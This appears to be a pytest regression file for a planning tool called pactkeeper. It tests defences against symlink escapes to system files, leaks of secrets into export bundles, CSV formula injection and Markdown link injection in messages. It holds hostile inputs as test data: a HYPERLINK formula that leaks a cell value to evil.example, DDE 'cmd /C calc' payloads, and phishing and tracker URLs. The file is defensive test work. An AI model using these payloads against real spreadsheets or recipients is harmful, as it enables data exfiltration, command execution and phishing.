"""Regressions from a hostile use of pactkeeper: the bundle's documents and CSV files,
the secret guard, the outbox, and plan text in messages.

Each test is named after what went wrong; the bundle is built by the real code from a
plan folder on disk and read back from the zip.
"""

from __future__ import annotations

import csv
import io
import os
import re
import zipfile
from dataclasses import replace
from datetime import UTC, datetime, timedelta
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from config.load import load_plan
from config.plan import EmailChannel
from connectors.base import Message, Recipient
from connectors.registry import connector_for
from tests.engine import make_engine, moment
from tests.support import dump, minimal_data
from worker.engine import Engine
from worker.handover import close as handover
from worker.plans.register import register

BUILT = moment("2027-03-02 12:00")


def plan_folder(tmp_path: Path, documents: list[str], **changes: Any) -> Path:
    data = minimal_data()
    data["handover"] = {"at": "2027-06-28T10:00", "documents": documents}
    data.update(changes)
    folder = tmp_path / "plan"
    (folder / "docs").mkdir(parents=True, exist_ok=True)
    (folder / "plan.yaml").write_text(dump(data))
    return folder


def bundle_files(tmp_path: Path, folder: Path, **settings: Any) -> dict[str, bytes]:
    """The files of the bundle of ``folder/plan.yaml``, by their path under ``data/``."""
    plan = load_plan(folder / "plan.yaml")
    engine = make_engine(tmp_path, **settings)
    register(engine, plan, moment("2027-01-01 00:00"))
    return unzip(handover.build_bundle(engine, plan, BUILT))


def unzip(bundle: bytes) -> dict[str, bytes]:
    with zipfile.ZipFile(io.BytesIO(bundle)) as archive:
        return {
            name.split("/data/", 1)[1]: archive.read(name)
            for name in archive.namelist()
            if "/data/" in name
        }


def report_of(files: dict[str, bytes]) -> str:
    return files["handover.md"].decode()


# -- #1: documents never follow a link out of the plan's folder ---------------------------


def test_documents_never_follow_a_symlink_out_of_the_plan_folder_when_the_bundle_is_built(
    tmp_path: Path,
) -> None:
    outside = tmp_path / "server"
    outside.mkdir()
    (outside / "shadow").write_text("root:SECRET-HASH:20228:0:99999\n")
    (outside / "hostname").write_text("server-name\n")
    documents = ["docs/passwd.md", "docs/etc/hostname", "docs/etc/shadow", "docs/alias.md"]
    folder = plan_folder(tmp_path, documents)
    docs = folder / "docs"
    # Real files when the plan is validated and registered (validation refuses links out)...
    (docs / "etc").mkdir()
    for name in ("passwd.md", "etc/hostname", "etc/shadow", "real.md"):
        (docs / name).write_text("# Kept\n")
    (docs / "alias.md").symlink_to("real.md")  # a link that stays inside is fine
    plan = load_plan(folder / "plan.yaml")
    engine = make_engine(tmp_path)
    register(engine, plan, moment("2027-01-01 00:00"))
    # ...then swapped for links out of the folder before the bundle is built.
    (docs / "passwd.md").unlink()
    (docs / "passwd.md").symlink_to(outside / "shadow")
    for name in ("hostname", "shadow"):
        (docs / "etc" / name).unlink()
    (docs / "etc").rmdir()
    (docs / "etc").symlink_to(outside, target_is_directory=True)

    files = unzip(handover.build_bundle(engine, plan, BUILT))

    everything = b"".join(files.values())
    assert b"SECRET-HASH" not in everything and b"server-name" not in everything
    assert sorted(name for name in files if name.startswith("documents/")) == [
        "documents/docs/alias.md"
    ]
    assert files["documents/docs/alias.md"] == b"# Kept\n"
    report = report_of(files)
    for name in ("docs/passwd.md", "docs/etc/hostname", "docs/etc/shadow"):
        assert (
            f"The document {name} was left out because it is not a file inside the plan's folder"
            in report
        )
    assert "`documents/docs/alias.md`" in report


def test_a_link_put_in_place_of_a_checked_folder_is_refused_when_read(tmp_path: Path) -> None:
    outside = tmp_path / "server"
    outside.mkdir()
    (outside / "notes.md").write_text("not yours\n")
    folder = tmp_path / "plan"
    (folder / "docs").mkdir(parents=True)
    (folder / "docs" / "notes.md").write_text("ours\n")
    assert handover.read_document(folder, "docs/notes.md") == b"ours\n"
    # The folder swapped for a link between the check and the read: the read refuses it.
    (folder / "docs" / "notes.md").unlink()
    (folder / "docs").rmdir()
    (folder / "docs").symlink_to(outside, target_is_directory=True)
    with pytest.raises(handover.Outside):
        handover.read_document(folder, "docs/notes.md")
    with pytest.raises(handover.Outside):
        handover._read_inside(folder.resolve(), ("docs", "notes.md"))


def test_a_fifo_among_the_documents_is_left_out_without_blocking(tmp_path: Path) -> None:
    folder = tmp_path / "plan"
    (folder / "docs").mkdir(parents=True)
    os.mkfifo(folder / "docs" / "pipe.md")
    with pytest.raises(handover.Outside):
        handover.read_document(folder, "docs/pipe.md")


# -- #4: a document missing when the bundle is made is a gap, not an error ----------------


def test_a_document_missing_when_the_bundle_is_built_is_a_gap_named_in_the_report(
    tmp_path: Path,
) -> None:
    folder = plan_folder(tmp_path, ["docs/beheer.md", "docs/kept.md"])
    (folder / "docs" / "beheer.md").write_text("# Beheer\n")
    (folder / "docs" / "kept.md").write_text("# Kept\n")
    plan = load_plan(folder / "plan.yaml")
    engine = make_engine(tmp_path)
    register(engine, plan, moment("2027-01-01 00:00"))
    (folder / "docs" / "beheer.md").unlink()  # deleted after the plan was registered

    files = unzip(handover.build_bundle(engine, plan, BUILT))

    assert "documents/docs/beheer.md" not in files
    assert files["documents/docs/kept.md"] == b"# Kept\n"
    report = report_of(files)
    assert (
        "The document docs/beheer.md was listed in the plan but was missing when this bundle"
        " was made." in report
    )
    assert "`documents/docs/kept.md`" in report and "`documents/docs/beheer.md`" not in report


def test_the_dutch_report_names_each_left_out_document_with_its_reason(tmp_path: Path) -> None:
    folder = plan_folder(tmp_path, ["docs/weg.md", "docs/geheim.md"], language="nl")
    (folder / "docs" / "geheim.md").write_text("sleutel: test-signing-key\n")
    (folder / "docs" / "weg.md").write_text("x")
    plan = load_plan(folder / "plan.yaml")
    (folder / "docs" / "weg.md").unlink()
    engine = make_engine(tmp_path)
    report = report_of(unzip(handover.build_bundle(engine, plan, BUILT)))
    assert (
        "Het document docs/weg.md stond in het plan, maar ontbrak toen deze bundel werd gemaakt."
        in report
    )
    assert "Het document docs/geheim.md is weggelaten omdat het een geheim bevat" in report


# -- #24: a document left out for a secret is reported as such ---------------------------


def test_a_document_left_out_for_a_secret_is_reported_as_holding_a_secret_not_as_missing(
    tmp_path: Path,
) -> None:
    folder = plan_folder(tmp_path, ["docs/notes.md"])
    (folder / "docs" / "notes.md").write_text("The key is test-signing-key, keep it safe.\n")
    report = report_of(bundle_files(tmp_path, folder))
    assert "The document docs/notes.md was left out because it contains a secret" in report
    assert "missing when this bundle was made" not in report


# -- #6: a secret given as NAME_FILE is known to the guard --------------------------------


def test_a_secret_supplied_as_name_file_keeps_its_document_out_of_the_bundle(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    hook = "https://hooks.slack.example/services/T0001/B0001/FILESECRETVALUE42"
    secret_file = tmp_path / "secrets" / "slack"
    secret_file.parent.mkdir()
    secret_file.write_text(hook + "\n")
    monkeypatch.delenv("MY_SLACK", raising=False)
    monkeypatch.setenv("MY_SLACK_FILE", str(secret_file))
    channels = {"email": {}, "slack": {"webhook": "env:MY_SLACK"}}
    data = minimal_data()
    folder = plan_folder(
        tmp_path, ["docs/notes.md"], communication={**data["communication"], "channels": channels}
    )
    (folder / "docs" / "notes.md").write_text(f"Our Slack hook is {hook}\n")
    files = bundle_files(tmp_path, folder)
    assert b"FILESECRETVALUE42" not in b"".join(files.values())
    assert "documents/docs/notes.md" not in files
    assert "docs/notes.md was left out because it contains a secret" in report_of(files)


def test_known_secrets_reads_name_and_name_file_like_the_connectors(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    (tmp_path / "token").write_text("from-a-file-0123\n")
    monkeypatch.setenv("PLAN_TOKEN_FILE", str(tmp_path / "token"))
    monkeypatch.setenv("PLAN_HOOK", "from-the-environment-4567")
    monkeypatch.delenv("PLAN_TOKEN", raising=False)
    monkeypatch.delenv("PLAN_GONE", raising=False)
    monkeypatch.delenv("PLAN_GONE_FILE", raising=False)
    channels = {
        "email": {},
        "slack": {"webhook": "env:PLAN_HOOK"},
        "telegram": {"token": "env:PLAN_TOKEN", "chat_id": "-100"},
        "teams": {"webhook": "env:PLAN_GONE"},
    }
    communication = {**minimal_data()["communication"], "channels": channels}
    folder = plan_folder(tmp_path, [], communication=communication)
    plan = load_plan(folder / "plan.yaml")
    engine: Engine = make_engine(tmp_path)
    secrets = handover.known_secrets(engine.settings, plan)
    assert "from-a-file-0123" in secrets and "from-the-environment-4567" in secrets


# -- #14: no formula from a note or a name in the bundle's CSV files ----------------------


FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&B2,"Click for details")',
    "@SUM(1+1)*cmd|'/C calc'!A0",
    "+1+1",
    "-2+3",
    "\tTAB",
    "\rCR",
]


def test_csv_cells_that_start_a_formula_are_kept_as_text(tmp_path: Path) -> None:
    from worker.checkins.answers import record_checkin

    data = minimal_data()
    data["people"][1]["name"] = "=cmd|' /C calc'!A0"
    data["people"][0]["phone"] = "+31612345678"
    data["checkins"] = {"every": "weekly", "on": "monday", "grace": "2d", "who": ["tim"]}
    folder = tmp_path / "plan"
    folder.mkdir()
    (folder / "plan.yaml").write_text(dump(data))
    plan = load_plan(folder / "plan.yaml")
    engine = make_engine(tmp_path)
    register(engine, plan, moment("2027-01-01 00:00"))
    mondays = ["2027-01-04", "2027-01-11", "2027-01-18", "2027-01-25", "2027-02-01", "2027-02-08"]
    for day, note in zip(mondays, FORMULAS, strict=True):
        record_checkin(engine, plan, "tim", moment(f"{day} 12:00"), "need_help", note, source="t")
    files = unzip(handover.build_bundle(engine, plan, moment("2027-02-20 12:00")))

    for name in ("checkins.csv", "people.csv", "deliveries.csv", "milestones.csv"):
        text = files[name].decode("utf-8-sig")
        for row in csv.reader(io.StringIO(text)):
            for cell in row:
                assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), (name, cell)
    checkins = csv.DictReader(io.StringIO(files["checkins.csv"].decode("utf-8-sig")))
    notes = [row["note"] for row in checkins]
    # The note is kept whole, only marked as text; the checkins' whitespace rules still apply.
    assert "'" + FORMULAS[0] in notes and "'" + FORMULAS[1] in notes and "'+1+1" in notes
    people = list(csv.DictReader(io.StringIO(files["people.csv"].decode("utf-8-sig"))))
    assert {p["name"] for p in people} == {"Pia", "'=cmd|' /C calc'!A0"}
    assert {p["phone"] for p in people} == {"'+31612345678", ""}


# -- #22: the outbox de-duplicates a re-send ----------------------------------------------


WHEN = datetime(2027, 1, 11, 8, 0, tzinfo=UTC)


def outbox_message(key: str = "abcdef0123456789abcdef01", seconds: int = 0) -> Message:
    return Message(
        key=key,
        plan_id="p",
        kind="reminder",
        channel="email",
        recipient=Recipient("ana", "Ana", "ana@p.example", language="en"),
        subject="Reminder",
        text="Hello Ana,\n",
        when=WHEN + timedelta(seconds=seconds),
    )


def outbox_files(folder: Path) -> list[str]:
    return sorted(p.name for p in folder.iterdir() if not p.name.startswith("."))


def test_the_outbox_keeps_one_file_when_the_same_message_is_sent_again_later(
    tmp_path: Path,
) -> None:
    engine = make_engine(tmp_path)
    connector, reason = connector_for("email", EmailChannel(), engine.settings, outbox=True)
    assert reason == "outbox only"
    first = outbox_message()
    connector.send(first)
    connector.send(replace(first, when=WHEN + timedelta(seconds=5)))
    connector.send(replace(first, when=WHEN + timedelta(hours=2)))
    folder = engine.settings.outbox_dir
    assert outbox_files(folder) == ["20270111T080000Z_p_reminder_ana_email_abcdef012345.eml"]
    # Another message is another file, and it keeps its own name when sent again.
    other = outbox_message("0123456789abcdef01234567", seconds=30)
    connector.send(other)
    connector.send(replace(other, when=WHEN + timedelta(seconds=30) + timedelta(seconds=5)))
    assert outbox_files(folder) == [
        "20270111T080000Z_p_reminder_ana_email_abcdef012345.eml",
        "20270111T080030Z_p_reminder_ana_email_0123456789ab.eml",
    ]


def test_a_re_send_after_a_crash_before_the_file_was_written_writes_it_once(
    tmp_path: Path,
) -> None:
    engine = make_engine(tmp_path)
    connector, _ = connector_for("email", EmailChannel(), engine.settings, outbox=True)
    first = outbox_message()
    connector.send(first)
    folder = engine.settings.outbox_dir
    (name,) = outbox_files(folder)
    (folder / name).unlink()  # as if the worker died after choosing the name
    connector.send(replace(first, when=WHEN + timedelta(seconds=5)))
    assert outbox_files(folder) == [name]


# -- #13: plan text never becomes markup in a message -------------------------------------


HOSTILE_TITLE = (
    "Kick-off ![x](https://tracker.example/p.gif) [Join here](https://phish.example/login)"
)
HOSTILE_LEAD = "Leo <https://phish.example/leo>"
HOSTILE_MEMBER = "Ida *B* _C_ <b>x</b>"


def hostile_plan(tmp_path: Path) -> Path:
    data = minimal_data()
    data["title"] = HOSTILE_TITLE
    data["partner"]["name"] = "P [site](https://phish.example/p)"
    data["team"]["name"] = "T ![t](https://tracker.example/t.gif)"
    data["people"][1]["name"] = HOSTILE_LEAD
    data["people"].append(
        {
            "id": "ida",
            "name": HOSTILE_MEMBER,
            "call_name": HOSTILE_MEMBER,
            "side": "team",
            "email": "ida@t.example",
        }
    )
    data["milestones"] = [
        {
            "id": "m1",
            "title": HOSTILE_TITLE,
            "at": "2027-01-13 10:00",
            "duration": "1h",
            "location": "[Room 1](https://phish.example/room)",
            "description": "# Heading\n\n<https://phish.example/desc>",
            "owner": "ida",
        },
        {
            "id": "d1",
            "title": "Deliver [now](https://phish.example/d1)",
            "due": "2027-01-20",
            "owner": "ida",
            "deliverable": "<https://phish.example/deliverable>",
            "acceptance": "![a](https://tracker.example/a.gif)",
        },
    ]
    data["checkins"] = {
        "every": "weekly",
        "on": "monday",
        "grace": "1d",
        "who": ["ida"],
        "questions": ["[q](https://phish.example/q) www.phish.example"],
    }
    folder = tmp_path / "plan"
    folder.mkdir()
    (folder / "plan.yaml").write_text(dump(data))
    return folder / "plan.yaml"


def no_markup_from_plan(html: str, where: str) -> None:
    """Links and images only where the template puts them, never to a plan's address."""
    for attribute in re.findall(r"""(?:href|src)\s*=\s*["']?([^"' >]+)""", html):
        assert attribute.startswith("http://testserver/"), (where, attribute)
    assert "<img" not in html and "<h1" not in html, where


def test_plan_text_never_becomes_a_link_image_or_autolink_in_any_message(
    tmp_path: Path,
) -> None:
    from email import message_from_bytes, policy

    from tests.engine import run_until
    from worker.delivery.compose import compose
    from worker.messages import to_html

    plan = load_plan(hostile_plan(tmp_path))
    engine = make_engine(tmp_path, base_url="http://testserver")
    register(engine, plan, moment("2027-01-01 00:00"))
    run_until(engine, moment("2027-02-10 00:00"))  # invites, kickoff, reminders, check-ins,
    # nudges and warnings for silent Ida, the overdue deadline
    mails = sorted(engine.settings.outbox_dir.glob("*.eml"))
    kinds = {path.name.split("_")[2] for path in mails}
    assert {"invite", "kickoff", "reminder", "checkin", "warning", "overdue"} <= kinds, kinds
    for path in mails:
        mail = message_from_bytes(path.read_bytes(), policy=policy.default)
        html = mail.get_body(("html",)).get_content()  # type: ignore[union-attr]
        no_markup_from_plan(html, path.name)
        assert "\\" not in str(mail["Subject"]), path.name  # a subject is plain text
    # The words themselves arrive, shown as text.
    (kickoff,) = [p for p in mails if "_kickoff_ida_" in p.name]
    mail = message_from_bytes(kickoff.read_bytes(), policy=policy.default)
    html = mail.get_body(("html",)).get_content()  # type: ignore[union-attr]
    assert "Hello Ida *B* _C_ &lt;b&gt;x&lt;/b&gt;," in html
    assert "![x](https://tracker.example/p.gif)" in html
    assert HOSTILE_TITLE in str(mail["Subject"])
    text = mail.get_body(("plain",)).get_content()  # type: ignore[union-attr]
    assert "Hello Ida \\*B\\* \\_C\\_ \\<b>x\\</b>," in text  # the Markdown the HTML is made of

    # Chat channels get the escaped Markdown: rendered, it holds no link either.
    items = engine.store.items(plan.id)
    for item in items:
        if item.kind in {"kickoff", "reminder", "checkin_open", "invite", "warning", "overdue"}:
            person = plan.person(str(item.recipient))
            message = compose(engine, plan, item, person, "mattermost", moment("2027-02-10 00:00"))
            no_markup_from_plan(to_html(message.text), f"{item.kind} {item.recipient}")
            assert HOSTILE_LEAD not in message.text, item.kind  # escaped wherever it is named


def test_a_notice_detail_from_a_service_is_shown_as_text(tmp_path: Path) -> None:
    from worker.delivery.compose import compose
    from worker.messages import to_html
    from worker.store import Item

    plan = load_plan(hostile_plan(tmp_path))
    engine = make_engine(tmp_path, base_url="http://testserver")
    notice = Item(
        key="n0000000000000000000000a",
        plan_id=plan.id,
        kind="notice",
        due=moment("2027-01-05 10:00"),
        recipient="tim",
        channel="email",
        data={
            "person": "ida",
            "about_kind": "reminder",
            "channel": "slack",
            "problem": "channel_failed",
            "detail": "Slack: HTTP 404 ([login](https://phish.example/x) ![p](https://t.example/p))",
        },
    )
    person = plan.person("tim")
    for channel in ("email", "mattermost"):
        message = compose(engine, plan, notice, person, channel, moment("2027-01-05 10:00"))
        html = str(message.html) if channel == "email" else to_html(message.text)
        no_markup_from_plan(html, channel)
        assert "[login](https://phish.example/x)" in html  # the words, as text


MARKUP = re.compile(r"<(?!/?p>)[a-z]", re.IGNORECASE)  # any element but the paragraph


@settings(max_examples=400, deadline=None)
@given(st.text(alphabet=st.sampled_from(list("ab 1.#>-+=~*_`[]()!<>|&;\\:/x\n")), max_size=40))
def test_any_text_in_a_message_template_is_shown_as_text(text: str) -> None:
    from worker.messages import markdown_text, plain_text, to_html
    from worker.messages.words import md

    shown = to_html(f"Hello {markdown_text(text)}") + to_html(markdown_text(text))
    assert not MARKUP.search(shown), (text, shown)
    # Text md() escaped already is not escaped again, and a subject gets it back as written.
    assert markdown_text(md(text)) == md(text)
    assert plain_text(md(text)) == " ".join(text.split())
